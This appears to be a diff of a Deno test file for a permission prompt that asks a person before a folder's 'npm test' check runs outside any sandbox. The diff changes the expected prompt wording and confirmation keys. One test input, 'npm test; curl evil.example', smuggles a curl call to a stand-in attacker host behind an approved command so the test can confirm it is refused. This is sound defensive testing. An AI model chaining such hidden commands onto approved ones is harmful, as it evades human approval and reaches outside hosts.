@@ -22,12 +22,8 @@ Deno.test("a folder is trusted with its check once a person has said so; another
   await isRefused("npm test");
   await isRefused("npm test", { isOwn: true });
   await isRefused("npm test", { keys: ["n\n"] });
-  await isRefused("npm test", { keys: ["y\n", "n\n"] });
-  const asked = await need("npm test", { keys: ["y\n", "y\n"] });
-  assertStringIncludes(
-    asked,
-    `Do you allow this?\n ! runs a command after the work, outside of any sandbox: "npm test"`,
-  );
+  const asked = await need("npm test", { keys: ["y\n"] });
+  assertStringIncludes(asked, '   runs a command after the work, outside of any sandbox: "npm test"  [check]\n');
   assertEquals(await need("npm test"), "");
 
   const { message } = await isRefused("npm test; curl evil.example");
